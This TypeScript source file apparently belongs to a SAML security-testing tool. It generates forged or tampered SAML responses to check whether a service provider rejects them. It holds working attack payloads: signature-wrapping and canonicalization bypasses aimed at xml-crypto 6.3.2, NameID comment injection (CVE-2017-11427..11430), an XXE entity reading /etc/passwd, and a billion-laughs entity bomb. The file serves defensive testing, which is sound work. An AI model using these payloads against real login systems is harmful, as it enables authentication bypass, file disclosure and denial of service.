import type { Document, Element } from '@xmldom/xmldom'
import {
  attr,
  childElements,
  firstChildElement,
  isText,
  ns,
  rootElement,
} from '../../../core/xml/index.ts'
import type { FaultOf } from '../schema.ts'
import { setNameId, setText } from './wrapping.ts'

/** The Assertion a naive SP would read: the first one that is a child of the Response. */
function assertionOf(doc: Document): Element | undefined {
  return firstChildElement(rootElement(doc), ns.saml, 'Assertion')
}

/**
 * Changes the NameID or an attribute's first value after signing (catalogue item 2's cousin), or
 * changes the signed Assertion where xml-crypto 6.3.2's canonical form did not see it (an attribute
 * named xmlns…, attributes moved into a namespace declaration's value).
 */
export function tamper(doc: Document, fault: FaultOf<'saml-tamper'>): void {
  const assertion = assertionOf(doc)
  if (!assertion) return
  if (fault.target === 'NameID') {
    setNameId(doc, assertion, fault.value)
    return
  }
  if (fault.target === 'xmlns-named-attribute') {
    // No namespace declaration, but named like one: xml-crypto 6.3.2's canonical form left out every
    // attribute whose name starts with "xmlns", so the signatures hold with it added.
    assertion.setAttribute('xmlnsRole', fault.value)
    return
  }
  if (fault.target === 'namespace-name-quote') {
    moveAttributesIntoDeclaration(assertion)
    return
  }
  const statement = firstChildElement(assertion, ns.saml, 'AttributeStatement')
  const attribute = statement
    ? childElements(statement, ns.saml, 'Attribute').find((a) => attr(a, 'Name') === fault.name)
    : undefined
  const value = attribute && firstChildElement(attribute, ns.saml, 'AttributeValue')
  if (value) setText(doc, value, fault.value)
  else setNameId(doc, assertion, fault.value)
}

/**
 * Moves the signed Assertion's attributes into the value of its last namespace declaration, as
 * the canonical form writes them: `xmlns:xs="…XMLSchema&quot; ID=&quot;…&quot; … Version=&quot;2.0"`.
 * xml-crypto 6.3.2 wrote a declaration's value unescaped, so its canonical form of the Assertion
 * stays the signed one while the tree has lost the attributes; a canonicalizer that escapes the
 * value (C14N §2.2) sees the change.
 */
function moveAttributesIntoDeclaration(assertion: Element): void {
  const attributes = Array.from(assertion.attributes)
  const declarations = attributes.filter((a) => a.name.startsWith('xmlns:'))
  const declaration = declarations.find((a) => a.name === 'xmlns:xs') ?? declarations.at(-1)
  const moved = attributes
    .filter((a) => !a.name.startsWith('xmlns') && !a.namespaceURI)
    .sort((a, b) => (a.name < b.name ? -1 : a.name > b.name ? 1 : 0))
  if (!declaration || moved.length === 0) return
  const written = moved.map((a) => `${a.name}="${a.value}"`).join(' ')
  for (const a of moved) assertion.removeAttribute(a.name)
  assertion.setAttribute(declaration.name, `${declaration.value}" ${written.slice(0, -1)}`)
}

/**
 * Splits the signed NameID `<nameId><suffix>` with a comment or a processing instruction
 * (CVE-2017-11427..11430): exclusive c14n drops comments, so the signature still holds, and an
 * SP that reads only the first text node signs in `<nameId>`.
 */
export function injectIntoNameId(
  doc: Document,
  fault: FaultOf<'saml-nameid-injection'>,
  nameIdLength: number,
): void {
  const assertion = assertionOf(doc)
  const subject = assertion && firstChildElement(assertion, ns.saml, 'Subject')
  const nameId = subject && firstChildElement(subject, ns.saml, 'NameID')
  const text = nameId?.firstChild
  if (!nameId || !isText(text)) return
  const tail = text.splitText(nameIdLength)
  const injected =
    fault.node === 'comment'
      ? doc.createComment('')
      : doc.createProcessingInstruction('ssoproof', 'injected')
  nameId.insertBefore(injected, tail)
}

const doctypes = {
  entity: '<!DOCTYPE samlp:Response [<!ENTITY ssoproof "alice">]>',
  'external-entity': '<!DOCTYPE samlp:Response [<!ENTITY ssoproof SYSTEM "file:///etc/passwd">]>',
  'billion-laughs': `<!DOCTYPE samlp:Response [<!ENTITY lol0 "lol">${Array.from(
    { length: 9 },
    (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`,
  ).join('')}<!ENTITY ssoproof "&lol9;">]>`,
} as const

/**
 * A DOCTYPE with entity declarations before the signed Response, and the entity referenced in
 * the NameID (catalogue item 5). An SP must refuse it before parsing.
 */
export function withDoctype(xml: string, fault: FaultOf<'saml-doctype'>): string {
  const referenced = xml.replace(/(<saml:NameID\b[^>]*>)[^<]*(<\/saml:NameID>)/, '$1&ssoproof;$2')
  return `<?xml version="1.0" encoding="UTF-8"?>${doctypes[fault.payload]}${referenced}`
}
